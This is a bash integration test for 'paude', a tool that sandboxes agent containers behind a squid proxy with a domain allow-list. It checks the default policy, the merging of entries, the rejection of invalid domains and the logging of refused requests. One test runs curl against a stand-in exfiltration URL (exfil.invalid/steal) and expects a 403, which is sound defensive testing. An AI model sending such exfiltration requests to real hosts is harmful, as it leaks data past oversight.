#!/bin/bash
# shellcheck disable=SC2016,SC2034  # test bodies are eval'd strings
# --allowed-domains from the command line to squid: the default policy,
# overlapping entries merged so squid accepts them, invalid values refused
# before anything is created, and `paude network` showing the policy and
# the proxy's refusals. No request here leaves the machine: every request
# made is one the proxy refuses without a DNS lookup.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-net.sh"

def=$(test_session_name def)
ovl=$(test_session_name ovl)
bad=$(test_session_name bad)
mkdir -p "$TRASH/ws"
cd "$TRASH/ws" || exit 1
for n in "$def" "$ovl" "$bad"; do
	test_on_exit "paude delete $n --confirm; podman rm -f paude-$n paude-proxy-$n; podman network rm -f paude-net-$n; podman volume rm -f paude-$n-workspace"
done
if ! net_agent_image >"$TRASH/setup.log" 2>&1; then
	cat "$TRASH/setup.log"
	echo "Bail out! cannot build the agent image"
	exit 1
fi

no_leftovers() {
	! podman container exists "paude-$1" && ! podman container exists "paude-proxy-$1" &&
		! podman network exists "paude-net-$1" && ! podman volume exists "paude-$1-workspace"
}

test_expect_success 'the default policy is vertexai and pypi' '
	paude create "$def" 2>err &&
	test_grep "network: vertexai, pypi" err &&
	paude start --detach "$def" &&
	podman exec "paude-proxy-$def" cat /run/paude-proxy/squid.conf >conf &&
	test_grep "^acl paude_allowed dstdomain -n aiplatform.googleapis.com files.pythonhosted.org iamcredentials.googleapis.com oauth2.googleapis.com pypi.org sts.googleapis.com$" conf &&
	test_grep "^acl paude_allowed_regional dstdom_regex -n -i ^\[a-z0-9-\]+-aiplatform\\\\.googleapis\\\\.com\$$" conf &&
	paude list >list &&
	test_grep "^$def .*vertexai, pypi" list
'

test_expect_success 'paude network shows the policy and the refusals' '
	in_session "$def" curl -sS -m 20 -o /dev/null -w "%{http_code}" http://exfil.invalid/steal >code &&
	test_equal 403 "$(cat code)" &&
	paude network "$def" >out &&
	test_grep "^Policy:   vertexai, pypi$" out &&
	test_grep "^Allowed:  \*-aiplatform.googleapis.com aiplatform.googleapis.com files.pythonhosted.org iamcredentials.googleapis.com oauth2.googleapis.com pypi.org sts.googleapis.com$" out &&
	test_grep "^  [0-9-]* [0-9:]*  refused  GET exfil.invalid (allow with: paude network $def --allow exfil.invalid)$" out &&
	test_must_fail grep "HIER_NONE" out &&
	paude network -v "$def" >out &&
	test_grep "TCP_DENIED/403 .* http://exfil.invalid/steal - HIER_NONE" out
'

test_expect_success 'paude network on a stopped session says the proxy is not running' '
	paude stop "$def" &&
	paude network "$def" >out &&
	test_grep "No proxy log: the proxy of session .* is not running" out
'

test_expect_success 'overlapping entries are merged and squid accepts them' '
	paude create "$ovl" --allowed-domains default --allowed-domains x.com \
		--allowed-domains .x.com,.a.x.com --allowed-domains storage.googleapis.com 2>err &&
	test_grep "network: vertexai, pypi, x.com, .x.com, .a.x.com, storage.googleapis.com" err &&
	paude start --detach "$ovl" &&
	paude network "$ovl" >out &&
	test_grep "^Allowed:  \*-aiplatform.googleapis.com .x.com aiplatform.googleapis.com files.pythonhosted.org iamcredentials.googleapis.com oauth2.googleapis.com pypi.org storage.googleapis.com sts.googleapis.com$" out &&
	podman container inspect "paude-proxy-$ovl" --format "{{.State.Status}}" >st &&
	test_equal running "$(cat st)" &&
	paude delete "$ovl" --confirm &&
	no_leftovers "$ovl"
'

expect_refused() {
	local want="$1" rc=0
	shift
	paude create "$bad" "$@" >out 2>err || rc=$?
	if [ "$rc" -ne 2 ]; then
		echo "expected exit 2 from: paude create $bad $*, got $rc" >&2
		cat err >&2
		return 1
	fi
	test_grep "$want" err && no_leftovers "$bad"
}

test_expect_success 'invalid values are refused with a reason, and nothing is created' '
	expect_refused "a URL is not a domain" --allowed-domains https://example.com &&
	expect_refused "wildcards are not supported" --allowed-domains "*.example.com" &&
	expect_refused "ports and IPv6 addresses are not supported" --allowed-domains example.com:443 &&
	expect_refused "IP addresses are not supported" --allowed-domains 10.0.0.1 &&
	expect_refused "a single label is not allowed" --allowed-domains localhost &&
	expect_refused "empty label" --allowed-domains a..example.com &&
	expect_refused "empty value" --allowed-domains "" &&
	expect_refused "a path is not allowed" --allowed-domains example.com/x &&
	expect_refused "cannot be combined" --allowed-domains all --allowed-domains default
'

test_done
